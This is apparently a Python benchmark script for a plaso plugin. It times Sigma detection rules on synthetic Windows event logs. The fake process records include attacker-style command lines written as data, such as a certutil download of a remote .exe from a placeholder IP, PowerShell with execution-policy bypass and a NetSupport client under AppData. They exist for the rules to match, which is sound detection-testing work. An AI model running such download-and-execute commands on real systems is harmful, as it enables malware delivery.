#!/usr/bin/env python3
"""Sigma at scale: our rules versus SigmaHQ's Windows rules (run by `make bench`).

psort -o null --analysis netsupport on one storage file, three variants:
    (a) --netsupport-no-sigma (the plugin without Sigma: the baseline);
    (b) our 12 rules (the default);
    (c) our rules + SigmaHQ's Windows rules (--netsupport-sigma-rules).
Wall time, events/s, rule x events/s, peak RSS of the analysis process.
The rule set report (loaded, refused with reasons, on the slow path) and the
evaluations per event (pruned versus every candidate rule) come from the
engine itself, in this process, on the same rules and storage file.

Storage file: log2timeline --parsers winevtx over EVTX files written by the
test forge (tests/forge/evtx.py): a mix of Security 4688 process creations
(varied command lines, about 2 % suspicious), System 7045 service installs
and 7036 service state changes, about a third each.

SigmaHQ's rules (DRL 1.1, https://github.com/SigmaHQ/Detection-Rule-License,
authors in each rule's `author` field) are read from
../shared/sigmahq-rules/windows beside the clone (or
PLASO_NETSUPPORT_SIGMAHQ_WINDOWS); the benchmark is skipped without them.

The results replace the "Sigma at scale" section of benchmarks/RESULTS.md.

The large store (--large-copies N) is the main store replicated N times in
the storage file (ReplicateStore), timestamps shifted per copy.

Usage: .venv/bin/python benchmarks/sigma_bench.py [--records N] [--large-copies N]
"""

import argparse
import collections
import datetime
import os
import random
import re
import shutil
import sys
import tempfile
import time

BENCHMARK_DIRECTORY = os.path.dirname(os.path.abspath(__file__))
REPOSITORY_ROOT = os.path.dirname(BENCHMARK_DIRECTORY)
sys.path.insert(0, REPOSITORY_ROOT)
sys.path.insert(0, BENCHMARK_DIRECTORY)

import run as bench  # noqa: E402  pylint: disable=wrong-import-position

SIGMAHQ_WINDOWS = os.environ.get(
    "PLASO_NETSUPPORT_SIGMAHQ_WINDOWS",
    os.path.join(
        os.path.dirname(REPOSITORY_ROOT), "shared", "sigmahq-rules", "windows"
    ),
)
SECTION_START = "<!-- sigma-bench:start -->"
SECTION_END = "<!-- sigma-bench:end -->"

RECORDS_PER_FILE = 20000

_USERS = ["alice", "bob", "carol", "svc_backup", "SYSTEM"]
_PROCESSES = [
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\services.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\System32\\cmd.exe",
     "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "C:\\Windows\\explorer.exe",
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
     "--lang=en-US --renderer-client-id={n}"),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe",
     'cmd.exe /c "C:\\Users\\{user}\\scripts\\backup{n}.bat"'),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "C:\\Windows\\System32\\cmd.exe",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ops\\report{n}.ps1"),
    ("C:\\Windows\\System32\\taskhostw.exe", "C:\\Windows\\System32\\svchost.exe",
     "taskhostw.exe {n}"),
    ("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\explorer.exe",
     "rundll32.exe C:\\Windows\\system32\\shell32.dll,Control_RunDLL {n}"),
    ("C:\\Windows\\System32\\whoami.exe", "C:\\Windows\\System32\\cmd.exe",
     "whoami /all"),
    ("C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\System32\\cmd.exe",
     "certutil.exe -urlcache -split -f http://198.51.100.{octet}/p{n}.bin p.exe"),
    ("C:\\Users\\{user}\\AppData\\Roaming\\Svc\\client32.exe",
     "C:\\Windows\\System32\\cmd.exe",
     '"C:\\Users\\{user}\\AppData\\Roaming\\Svc\\client32.exe" /S'),
    ("C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\cmd.exe",
     "net user {user} /domain"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "C:\\Windows\\explorer.exe",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n '
     '"C:\\Users\\{user}\\Documents\\report{n}.docx"'),
]  # fmt: skip
_SERVICES = [
    ("Windows Update", "wuauserv", "%SystemRoot%\\system32\\svchost.exe -k netsvcs"),
    ("Print Spooler", "Spooler", "%SystemRoot%\\System32\\spoolsv.exe"),
    ("Client32", "Client32",
     '"C:\\Program Files (x86)\\NetSupport\\NetSupport Manager\\client32.exe" /*'),
    ("Updater{n}", "Updater{n}", "C:\\ProgramData\\upd{n}\\updater.exe"),
    ("PSEXESVC", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
]  # fmt: skip

# Mostly benign, as on a real system: the templates some SigmaHQ or NetSupport
# rule matches (PowerShell -ExecutionPolicy Bypass, rundll32 Control_RunDLL,
# whoami /all, certutil -urlcache, client32 under AppData; the Client32 and
# PSEXESVC services) are 0.4 % of the records each.
_PROCESS_WEIGHTS = [20, 15, 20, 10, 0.4, 10, 0.4, 0.4, 0.4, 0.4, 5, 8]
_SERVICE_WEIGHTS = [40, 30, 0.4, 20, 0.4]


def Log(message):
    print(message, flush=True)


def _Records(kind, count, randomiser, start):
    records = []
    for index in range(count):
        when = start + datetime.timedelta(seconds=index)
        number, user = randomiser.randrange(100000), randomiser.choice(_USERS)
        values = {"n": number, "user": user, "octet": number % 250}
        if kind == "Security":
            template = randomiser.choices(_PROCESSES, _PROCESS_WEIGHTS)[0]
            image, parent, command_line = (text.format(**values) for text in template)
            data = {
                "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1001",
                "SubjectUserName": user, "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7", "NewProcessId": hex(number + 4),
                "NewProcessName": image, "TokenElevationType": "%%1936",
                "ProcessId": hex(number % 9000 + 4), "CommandLine": command_line,
                "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
                "TargetDomainName": "-", "TargetLogonId": "0x0",
                "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288",
            }  # fmt: skip
            records.append({
                "event_id": 4688, "time": when, "version": 2, "task": 13312,
                "keywords": 0x8020000000000000, "data": data,
                "provider": "Microsoft-Windows-Security-Auditing",
                "provider_guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
            })  # fmt: skip
            continue
        template = randomiser.choices(_SERVICES, _SERVICE_WEIGHTS)[0]
        display, name, image_path = (text.format(**values) for text in template)
        record = {
            "time": when, "qualifiers": 16384, "keywords": 0x8080000000000000,
            "provider": "Service Control Manager",
            "provider_guid": "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
            "event_source_name": "Service Control Manager",
        }  # fmt: skip
        if index % 2:
            record["event_id"] = 7045
            record["data"] = {
                "ServiceName": display, "ImagePath": image_path,
                "ServiceType": "user mode service", "StartType": "demand start",
                "AccountName": "LocalSystem",
            }  # fmt: skip
        else:
            record["event_id"] = 7036
            record["data"] = {
                "param1": display,
                "param2": randomiser.choice(["running", "stopped"]),
                "Binary": name.encode("utf-16-le").hex().upper(),
            }
        records.append(record)
    return records


def BuildMixStore(work_directory, name, records):
    """Extracts a storage file from forge-written Security/System EVTX files."""
    from tests.forge import evtx  # pylint: disable=import-outside-toplevel

    storage_file = os.path.join(work_directory, f"{name}.plaso")
    if os.path.exists(storage_file):
        return storage_file, bench.CountContainers(storage_file, "event")
    source = os.path.join(work_directory, f"{name}-source")
    logs = os.path.join(source, "Windows", "System32", "winevt", "Logs")
    os.makedirs(logs)
    randomiser = random.Random(4688)
    start = datetime.datetime(2026, 3, 1, 8, 0, 0)
    written = 0
    index = 0
    while written < records:
        count = min(RECORDS_PER_FILE, records - written)
        # Security gets a third of the records, System two thirds.
        kind = "Security" if index % 3 == 0 else "System"
        data = evtx.build_evtx(
            _Records(kind, count, randomiser, start), kind, computer="WS01"
        )
        with open(os.path.join(logs, f"{index:04d}-{kind}.evtx"), "wb") as handle:
            handle.write(data)
        written += count
        index += 1
        start += datetime.timedelta(days=1)
    Log(f"  building {name}: {index} EVTX files, {written:,d} records")
    measurement = bench.RunMeasured(
        [
            bench.Script("log2timeline"), "--status_view", "none", "--quiet",
            "--parsers", "winevtx", "--storage_file", storage_file, source,
        ],
        cwd=work_directory,
    )  # fmt: skip
    shutil.rmtree(source)
    events = bench.CountContainers(storage_file, "event")
    Log(f"  {name}: {events:,d} events in {measurement.wall:.1f} s")
    return storage_file, events


def ReplicateStore(storage_file, copies, output):
    """Writes a storage file holding copies x the events and event data of one.

    Copy k's event data rows are the originals' (same blobs, new identifiers)
    and its events point at them, with timestamps shifted by k x 30 days, so
    that psort, which reads events in time order, meets each copy as a new
    stretch of the timeline. SQL on plaso's SQLite storage format: 2 million
    events in minutes where log2timeline takes over an hour on this machine.
    """
    import sqlite3  # pylint: disable=import-outside-toplevel

    shutil.copyfile(storage_file, output)
    connection = sqlite3.connect(output)
    try:
        (data_count,) = connection.execute(
            "SELECT MAX(_identifier) FROM event_data"
        ).fetchone()
        (event_count,) = connection.execute(
            "SELECT MAX(_identifier) FROM event"
        ).fetchone()
        shift_microseconds = 30 * 86400 * 10**6
        for copy in range(1, copies):
            connection.execute(
                "INSERT INTO event_data (_identifier, _data) SELECT _identifier + ?, "
                "_data FROM event_data WHERE _identifier <= ? ORDER BY _identifier",
                (copy * data_count, data_count),
            )
            shift = copy * shift_microseconds
            connection.execute(
                "INSERT INTO event (_identifier, _event_data_identifier, date_time, "
                "timestamp, timestamp_desc) SELECT _identifier + ?, 'event_data.' || "
                "(CAST(substr(_event_data_identifier, 12) AS INTEGER) + ?), "
                "json_set(date_time, '$.timestamp', "
                "json_extract(date_time, '$.timestamp') + ?), timestamp + ?, "
                "timestamp_desc FROM event WHERE _identifier <= ? ORDER BY _identifier",
                (copy * event_count, copy * data_count, shift * 10, shift, event_count),
            )
        connection.commit()
    finally:
        connection.close()
    return output, bench.CountContainers(output, "event")


VARIANTS = {
    "none": ["--analysis", "netsupport", "--netsupport-no-sigma"],
    "ours": ["--analysis", "netsupport"],
    "sigmahq": [
        "--analysis", "netsupport", "--netsupport-sigma-rules", SIGMAHQ_WINDOWS,
    ],
}  # fmt: skip
NAMES = {
    "none": "(a) netsupport, no Sigma",
    "ours": "(b) netsupport, our 12 rules",
    "sigmahq": "(c) netsupport, ours + SigmaHQ Windows",
}


def RunVariant(work_directory, storage_file, variant):
    copy = os.path.join(work_directory, f"sigma-{variant}.plaso")
    shutil.copyfile(storage_file, copy)
    env = {
        "PYTHONPATH": os.pathsep.join(
            filter(None, [REPOSITORY_ROOT, os.environ.get("PYTHONPATH")])
        )
    }
    try:
        return bench.RunMeasured(
            [
                bench.Script("psort"), "--status_view", "none", "--quiet",
                *VARIANTS[variant], "-o", "null", copy,
            ],
            env=env,
            cwd=work_directory,
        )  # fmt: skip
    finally:
        os.remove(copy)


def RuleSetReport(directories):
    """Loads the rules as the plugin does; returns counts and refusal reasons."""
    from plaso_netsupport.sigma import engine  # pylint: disable=import-outside-toplevel

    started = time.perf_counter()
    sigma_engine = engine.SigmaEngine.FromDirectories(directories).Compile()
    load_time = time.perf_counter() - started
    reasons = collections.Counter()
    for problem in sigma_engine.problems:
        reason = problem.split(": ", 1)[-1]
        reason = re.sub(r"^rule '.*?': ", "", reason)
        reason = (
            re.sub(r"'[^']*'", "'…'", reason) if "correlation" in reason else reason
        )
        reasons[reason] += 1
    return sigma_engine, {
        "loaded": len(sigma_engine.rules),
        "refused": len(sigma_engine.problems),
        "reasons": reasons,
        "slow_path": len(sigma_engine.slow_path_rules),
        "slow_path_logsources": collections.Counter(
            rule.logsource for rule in sigma_engine.slow_path_rules
        ),
        "load_time": load_time,
    }


def Evaluations(directories, storage_file, limit):
    """Rule evaluations per event with and without pruning, on stored events."""
    from plaso.storage import factory  # pylint: disable=import-outside-toplevel
    from plaso_netsupport.sigma import engine  # pylint: disable=import-outside-toplevel

    pruned = engine.SigmaEngine.FromDirectories(directories).Compile()
    full = engine.SigmaEngine.FromDirectories(directories, prune=False).Compile()
    reader = factory.StorageFactory.CreateStorageReaderForFile(storage_file)
    events = []
    try:
        # Every stride-th EVTX event data: a sample across the whole store.
        total = reader.GetNumberOfAttributeContainers("event_data")
        stride = max(1, total // limit)
        for index, event_data in enumerate(reader.GetAttributeContainers("event_data")):
            if index % stride == 0 and (
                getattr(event_data, "data_type", None) == engine.DATA_TYPE
            ):
                events.append(event_data)
    finally:
        reader.Close()
    result = {"events": len(events)}
    for name, sigma_engine in (("pruned", pruned), ("full", full)):
        started = time.perf_counter()
        matches = 0
        for event_data in events:
            if sigma_engine.CouldMatch(event_data.event_identifier):
                matches += len(sigma_engine.MatchEventData(event_data))
        result[name] = {
            "seconds": time.perf_counter() - started,
            "evaluations": sigma_engine.rule_evaluations,
            "matches": matches,
        }
    return result


def FormatSection(arguments, machine, stores, rule_sets, evaluations, elapsed):
    mib = 2**20
    lines = [
        SECTION_START,
        "## Sigma at scale: our rules vs SigmaHQ's Windows rules",
        "",
        f"* Date: {datetime.datetime.now().astimezone().isoformat(timespec='seconds')}",
        f"* Machine: {machine['nproc']} CPUs ({machine['cpu']}), "
        f"{machine['ram_gib']:.1f} GiB RAM; Python {machine['python']}, plaso "
        f"{machine['plaso']}; total time {elapsed / 60:.1f} min",
        "* Command: `.venv/bin/python benchmarks/sigma_bench.py"
        + "".join(f" {part}" for part in arguments.command_line)
        + "` (`make bench`)",
        *[f"* Note: {note}" for note in arguments.note],
        "* Storage file: log2timeline `--parsers winevtx` over forge-written EVTX "
        "files, Security 4688 (a third of the records; about 2 % of them and of "
        "the 7045 records are of a kind some rule matches) and System 7045/7036; "
        "psort `-o null`, one run per variant on a fresh copy. Peak RSS: the "
        "analysis process (largest child of psort), sampled every 0.1 s.",
        "* SigmaHQ rules: snapshot of SigmaHQ/sigma `rules/windows` (DRL 1.1, "
        "authors in each rule), `../shared/sigmahq-rules/windows`.",
        "",
        "| Events | Variant | Rules | Wall (s) | Events/s | Rule × events/s | "
        "Peak RSS analysis / main (MiB) | vs (b) |",
        "|---|---|---|---|---|---|---|---|",
    ]
    for store in stores:
        ours_wall = store["results"].get("ours")
        for variant, measurement in store["results"].items():
            rules = rule_sets[variant]["loaded"] if variant in rule_sets else 0
            ratio = (
                f"{measurement.wall / ours_wall.wall:.2f} ×"
                if ours_wall and variant != "none"
                else ""
            )
            lines.append(
                f"| {store['events']:,d} | {NAMES[variant]} | {rules:,d} | "
                f"{measurement.wall:.1f} | {store['events'] / measurement.wall:,.0f} | "
                f"{rules * store['events'] / measurement.wall:,.0f} | "
                f"{measurement.child_rss / mib:.0f} / {measurement.main_rss / mib:.0f} | "
                f"{ratio} |"
            )
    lines.append("")
    for store in stores:
        results = store["results"]
        if "sigmahq" in results and "ours" in results:
            ratio = results["sigmahq"].wall / results["ours"].wall
            mark = "meets target" if ratio <= 3 else "MISSES target"
            lines.append(
                f"* **{store['events']:,d} events: SigmaHQ / ours = {ratio:.2f}** "
                f"(target ≤ 3: {mark})"
            )
    if len(stores) > 1 and all("sigmahq" in store["results"] for store in stores):
        small, large = stores[0]["results"]["sigmahq"], stores[-1]["results"]["sigmahq"]
        ratio = large.child_rss / small.child_rss
        mark = "meets target" if ratio <= 1.5 else "MISSES target"
        lines.append(
            f"* **Peak RSS of the analysis process, {stores[-1]['events']:,d} vs "
            f"{stores[0]['events']:,d} events (SigmaHQ): {ratio:.2f} ×** "
            f"(target ≤ 1.5: {mark})"
        )
    lines.append("")
    for variant in ("ours", "sigmahq"):
        report = rule_sets.get(variant)
        if not report:
            continue
        lines += [
            f"### Rule set {NAMES[variant]}",
            "",
            f"* Loaded: **{report['loaded']:,d}**; refused: **{report['refused']:,d}**; "
            f"on the slow path (no required literal, evaluated on every candidate "
            f"event): **{report['slow_path']:,d}**; load and compile time "
            f"{report['load_time']:.1f} s",
        ]
        for reason, count in report["reasons"].most_common():
            lines.append(f"  * refused {count} ×: {reason}")
        if report["slow_path"]:
            slow = ", ".join(
                f"{logsource} {count}"
                for logsource, count in report["slow_path_logsources"].most_common()
            )
            lines.append(f"  * slow path by logsource: {slow}")
        lines.append("")
    if evaluations:
        pruned, full = evaluations["pruned"], evaluations["full"]
        events = evaluations["events"]
        lines += [
            "### Pruning, in-process (ours + SigmaHQ, a sample of "
            f"{events:,d} stored EVTX events across the store)",
            "",
            "| Engine | Rule evaluations / event | Sigma time / event (µs) | Matches |",
            "|---|---|---|---|",
            f"| pruned (default) | {pruned['evaluations'] / events:.1f} | "
            f"{pruned['seconds'] / events * 1e6:.0f} | {pruned['matches']:,d} |",
            f"| every candidate rule | {full['evaluations'] / events:.1f} | "
            f"{full['seconds'] / events * 1e6:.0f} | {full['matches']:,d} |",
            "",
        ]
    lines += [SECTION_END, ""]
    return "\n".join(lines)


def WriteSection(results_file, section):
    text = ""
    if os.path.exists(results_file):
        with open(results_file, "r", encoding="utf-8") as file_object:
            text = file_object.read()
    if SECTION_START in text and SECTION_END in text:
        before = text[: text.index(SECTION_START)]
        after = text[text.index(SECTION_END) + len(SECTION_END) :].lstrip("\n")
        text = before + section + after
    else:
        text = text.rstrip("\n") + "\n\n" + section
    with open(results_file, "w", encoding="utf-8") as file_object:
        file_object.write(text)


def Main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "--records",
        type=int,
        default=100000,
        help="EVTX records of the main store (2 events each)",
    )
    parser.add_argument(
        "--large-copies",
        type=int,
        default=0,
        help="also run on a store of N copies of the main one (0: none)",
    )
    parser.add_argument("--variants", default=",".join(VARIANTS))
    parser.add_argument("--large-variants", default="ours,sigmahq")
    parser.add_argument("--evaluation-events", type=int, default=3000)
    parser.add_argument("--work-directory", default=None)
    parser.add_argument("--results", default=bench.RESULTS_FILE)
    parser.add_argument("--note", action="append", default=[])
    arguments = parser.parse_args()
    arguments.command_line = sys.argv[1:]

    if not os.path.isdir(SIGMAHQ_WINDOWS):
        Log(f"SigmaHQ rules not found at {SIGMAHQ_WINDOWS}: Sigma benchmark skipped")
        return 0
    from plaso_netsupport.sigma import engine  # pylint: disable=import-outside-toplevel

    work_directory = arguments.work_directory or tempfile.mkdtemp(
        prefix="netsupport-sigma-bench-"
    )
    os.makedirs(work_directory, exist_ok=True)
    started = time.perf_counter()
    machine = bench.MachineDescription()
    Log(f"work directory: {work_directory}")
    stores = []
    try:
        Log("== rule sets")
        rule_sets = {}
        _, rule_sets["ours"] = RuleSetReport([engine.BUILTIN_RULES_DIRECTORY])
        _, rule_sets["sigmahq"] = RuleSetReport(
            [engine.BUILTIN_RULES_DIRECTORY, SIGMAHQ_WINDOWS]
        )
        for name, report in rule_sets.items():
            Log(
                f"  {name}: {report['loaded']} loaded, {report['refused']} refused, "
                f"{report['slow_path']} on the slow path, {report['load_time']:.1f} s"
            )
        sizes = [(1, [name for name in arguments.variants.split(",") if name])]
        if arguments.large_copies > 1:
            sizes.append(
                (
                    arguments.large_copies,
                    [name for name in arguments.large_variants.split(",") if name],
                )
            )
        evaluations = None
        for copies, variants in sizes:
            Log(f"== storage file: {arguments.records:,d} records x {copies}")
            storage_file, events = BuildMixStore(
                work_directory, f"sigma-mix-{arguments.records}", arguments.records
            )
            if copies > 1:
                storage_file, events = ReplicateStore(
                    storage_file,
                    copies,
                    os.path.join(work_directory, f"sigma-mix-x{copies}.plaso"),
                )
                Log(f"  replicated: {events:,d} events")
            if evaluations is None and arguments.evaluation_events:
                Log("== evaluations per event, in-process")
                evaluations = Evaluations(
                    [engine.BUILTIN_RULES_DIRECTORY, SIGMAHQ_WINDOWS],
                    storage_file,
                    arguments.evaluation_events,
                )
                Log(f"  {evaluations}")
            results = {}
            for variant in variants:
                results[variant] = RunVariant(work_directory, storage_file, variant)
                Log(
                    f"  {events:,d} events {variant:<8s} {results[variant].wall:8.1f} s"
                    f"  analysis RSS {results[variant].child_rss / 2**20:5.0f} MiB"
                )
            stores.append({"events": events, "results": results})
    finally:
        if not arguments.work_directory:
            shutil.rmtree(work_directory, ignore_errors=True)
    elapsed = time.perf_counter() - started
    section = FormatSection(arguments, machine, stores, rule_sets, evaluations, elapsed)
    WriteSection(arguments.results, section)
    Log(section)
    return 0


if __name__ == "__main__":
    sys.exit(Main())
